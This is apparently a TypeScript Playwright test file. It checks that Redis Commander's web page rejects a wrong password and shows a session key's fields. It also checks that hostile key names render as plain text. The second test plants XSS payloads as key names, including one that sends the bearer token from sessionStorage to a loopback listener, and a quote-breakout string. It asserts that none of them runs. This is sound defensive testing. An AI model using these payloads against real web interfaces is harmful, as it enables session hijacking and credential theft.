import { strict as assert } from "node:assert";
import * as fs from "node:fs";
import * as http from "node:http";
import { AddressInfo } from "node:net";
import * as os from "node:os";
import * as path from "node:path";
import { Browser, Page, chromium } from "playwright-core";
import { Sandbox, startSandbox } from "../../sandbox/sandbox";
import { DEV, resolve } from "../helpers/config";
import { directClient } from "../helpers/platform";
import { freeBasePort } from "../helpers/ports";
import { waitFor } from "../helpers/wait";

/** Debian's Chromium, with the flags this machine's closed network needs. */
const CHROMIUM = "/usr/bin/chromium";
const CHROMIUM_FLAGS = [
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
];
/** Where the screenshot goes (ignored by git; CI keeps the folder). */
export const ARTIFACTS = path.join(__dirname, "..", "..", "test-artifacts");

/** Clicks a jstree node's toggle until it stays open: the tree redraws while connections load. */
async function openNode(page: Page, id: string): Promise<void> {
  const node = page.locator(`li[id="${id}"]`);
  const deadline = Date.now() + 20_000;
  while (Date.now() < deadline) {
    if ((await node.count()) > 0) {
      if (/\bjstree-open\b/.test((await node.getAttribute("class")) ?? "")) return;
      await node
        .locator("> i.jstree-ocl")
        .click({ timeout: 2000 })
        .catch(() => undefined);
    }
    await page.waitForTimeout(250);
  }
  throw new Error(`tree node ${id} did not open`);
}

/** A jstree node by its id (a connection's id, then the key path): names may hold any character. */
function treeNode(page: Page, id: string) {
  return page.locator(`li[id="${id.replace(/["\\]/g, "\\$&")}"]`);
}

/**
 * Signs in on the page, as an admin types it, until the sign-in page is gone (the page reloads
 * signed in). A click that lands while the page's script is still starting is lost, as it would
 * be for a person, who then clicks again: at most three tries.
 */
async function signInOnPage(page: Page, username: string, password: string): Promise<void> {
  const modal = page.locator("#signinModal");
  for (let attempt = 1; ; attempt++) {
    await modal.waitFor({ state: "visible", timeout: 15_000 });
    await page.locator("#signinUsername").fill(username);
    await page.locator("#signinPassword").fill(password);
    await page.locator("#signinButton").click();
    try {
      await modal.waitFor({ state: "hidden", timeout: 10_000 });
      return;
    } catch (err) {
      if (attempt === 3) throw err;
    }
  }
}

/** A listener on a free loopback port that records every request: where a stolen token would go. */
async function beaconListener(): Promise<{ port: number; hits: string[]; close: () => void }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? "");
    res.end();
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return {
    port: (server.address() as AddressInfo).port,
    hits,
    close: () => server.close(),
  };
}

describe("Redis Commander in headless Chromium: sign in on the real page, open a session key", function () {
  let dir: string;
  let sandbox: Sandbox | undefined;
  let browser: Browser | undefined;
  let beacon: Awaited<ReturnType<typeof beaconListener>> | undefined;

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "lowcode-redis-browser-"));
    sandbox = await startSandbox(resolve(DEV, "dev"), { dir, basePort: await freeBasePort(1) });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_FLAGS });
    beacon = await beaconListener();
  });

  after(async () => {
    beacon?.close();
    await browser?.close();
    await sandbox?.stop();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("shows the sign-in page first, refuses a wrong password, then shows the session's fields", async () => {
    const c = sandbox!.connection;
    const app = directClient(c.redis[0].port, { ...c.users.app, db: c.databases.sessions });
    app.on("error", () => undefined);
    try {
      await app.hset("session:7f3a", {
        userId: "u-42",
        role: "editor",
        expiresAt: "2026-12-01T00:00:00Z",
      });
    } finally {
      app.disconnect();
    }
    const page = await browser!.newPage({ viewport: { width: 1280, height: 800 } });
    await page.goto(c.commander!.url);
    const signin = page.locator("#signinModal");
    await signin.waitFor({ state: "visible", timeout: 15_000 });

    await page.locator("#signinUsername").fill(c.commander!.username);
    await page.locator("#signinPassword").fill("admin123");
    const refused = page.waitForEvent("dialog", { timeout: 15_000 });
    await page.locator("#signinButton").click();
    const dialog = await refused;
    assert.equal(dialog.message(), "Sign-In Failed");
    await dialog.dismiss();
    assert.ok(await signin.isVisible(), "a wrong password leaves the sign-in page");
    assert.equal(await page.getByRole("treeitem").count(), 0, "no database shown");

    // The page clears the form after a refusal.
    await page.locator("#signinUsername").fill(c.commander!.username);
    await page.locator("#signinPassword").fill(c.commander!.password);
    await page.locator("#signinButton").click();
    const db0 = page.getByRole("treeitem", { name: /^sessions \(db0\)/ });
    await db0.waitFor({ timeout: 20_000 });
    const db0Id = (await db0.getAttribute("id"))!.replace(/_anchor$/, "");
    await openNode(page, db0Id);
    await openNode(page, `${db0Id}:session:`);
    await page.locator(`li[id="${db0Id}:session:7f3a"] > a`).click();
    await page.getByText("u-42").first().waitFor({ timeout: 15_000 });

    const body = await page.locator("#body").innerText();
    assert.match(body, /Key:\s*session:7f3a/);
    assert.match(body, /Type:\s*Hash/);
    for (const [field, value] of [
      ["userId", "u-42"],
      ["role", "editor"],
      ["expiresAt", "2026-12-01T00:00:00Z"],
    ])
      assert.match(body, new RegExp(`${field}\\s+${value}`));

    fs.mkdirSync(ARTIFACTS, { recursive: true });
    const shot = path.join(ARTIFACTS, "commander-session.png");
    fs.rmSync(shot, { force: true });
    await page.screenshot({ path: shot });
    const png = fs.readFileSync(shot);
    assert.equal(png.subarray(1, 4).toString(), "PNG");
    assert.ok(png.length > 10_000, "a screenshot of the page");
  });

  it("shows hostile key and folder names as text: no script runs, nothing reaches a listener; keys, buttons and console work", async () => {
    const c = sandbox!.connection;
    // The names an attacker holding only the app password can write (no ":" but the folders').
    const plain = "<img src=x onerror=alert(1)>";
    const folder = "<img src=x onerror=alert(2)>";
    const stealing = `<img src=x onerror="alert(3);new Image().src='//127.0.0.1'+String.fromCharCode(58)+'${beacon!.port}/?t='+sessionStorage.redisCommanderBearerToken">`;
    const quoting = "x');alert(4);('";
    const app = directClient(c.redis[0].port, { ...c.users.app, db: c.databases.sessions });
    app.on("error", () => undefined);
    try {
      await app.set(plain, "plain value");
      await app.set(stealing, "v");
      await app.set(quoting, Buffer.from("decoded value").toString("base64"));
      await app.set("ui:console", "shown");
      await app.select(c.databases.flowCache);
      await app.set(`folder:${folder}:leaf`, "leaf value");
    } finally {
      app.disconnect();
    }
    const page = await browser!.newPage({ viewport: { width: 1280, height: 800 } });
    const dialogs: string[] = [];
    // signInOnPage tries again when a sign-in does not go through; a try Commander refuses shows
    // its own "Sign-In Failed" alert (seen once in CI with two test files at a time), no name.
    let signingIn = true;
    page.on("dialog", (d) => {
      if (!(signingIn && d.message() === "Sign-In Failed")) dialogs.push(d.message());
      void d.dismiss();
    });
    const refused: string[] = [];
    page.on("console", (m) => {
      if (/Content Security Policy/.test(m.text())) refused.push(m.text());
    });
    await page.goto(c.commander!.url);
    await signInOnPage(page, c.commander!.username, c.commander!.password);
    signingIn = false;

    const idOf = async (label: RegExp) => {
      const item = page.getByRole("treeitem", { name: label });
      await item.waitFor({ timeout: 20_000 }).catch(async (err: Error) => {
        // What the page showed instead, for whoever reads the failure.
        fs.mkdirSync(ARTIFACTS, { recursive: true });
        await page.screenshot({ path: path.join(ARTIFACTS, "commander-hostile-names.png") });
        throw err;
      });
      return (await item.getAttribute("id"))!.replace(/_anchor$/, "");
    };
    const db0 = await idOf(/^sessions \(db0\)/);
    const db1 = await idOf(/^flow cache \(db1\)/);
    await openNode(page, db0);
    await openNode(page, db1);
    await openNode(page, `${db1}:folder:`);
    await openNode(page, `${db1}:folder:${folder}:`);
    for (const [id, shown] of [
      [`${db0}:${plain}`, plain],
      [`${db0}:${stealing}`, stealing],
      [`${db0}:${quoting}`, quoting],
      [`${db1}:folder:${folder}:`, `${folder}:`],
      [`${db1}:folder:${folder}:leaf`, "leaf"],
    ])
      assert.ok(
        (await treeNode(page, id).locator("> a").innerText()).startsWith(shown),
        `${id} is shown as its name`,
      );
    assert.equal(await page.locator("#keyTree img").count(), 0, "no element made of a name");

    /** Opens a key and waits for its view: its name after "Key:", its string value. */
    const openKey = async (id: string, name: string, value: string) => {
      await treeNode(page, id).locator("> a").click();
      await page
        .locator("#itemData label", { hasText: `Key: ${name}` })
        .waitFor({ timeout: 15_000 });
      await waitFor("the value shown", async () =>
        (await page.locator("#stringValue").inputValue()) === value ? true : undefined,
      );
      assert.equal(await page.locator("#body img").count(), 0, "no element made of a name");
    };
    await openKey(`${db0}:${plain}`, plain, "plain value");
    await openKey(`${db1}:folder:${folder}:leaf`, `folder:${folder}:leaf`, "leaf value");

    // A quote in a name stays in the name: the button decodes this key, and runs nothing else.
    await treeNode(page, `${db0}:${quoting}`).locator("> a").click();
    await page.locator("#base64Button", { hasText: "Decode" }).waitFor({ timeout: 15_000 });
    await page.locator("#base64Button").click();
    await page.locator("#base64Button", { hasText: "Encode" }).waitFor({ timeout: 15_000 });

    await page.locator("#commandLine").click();
    await page.keyboard.type("GET ui:console");
    await page.keyboard.press("Enter");
    await page.locator("#commandLineOutput", { hasText: '"shown"' }).waitFor({ timeout: 15_000 });

    assert.deepEqual(dialogs, [], "a name ran as script");
    assert.deepEqual(beacon!.hits, [], "the token reached the listener");
    assert.deepEqual(refused, [], "the policy blocked part of Commander's own page");
  });
});
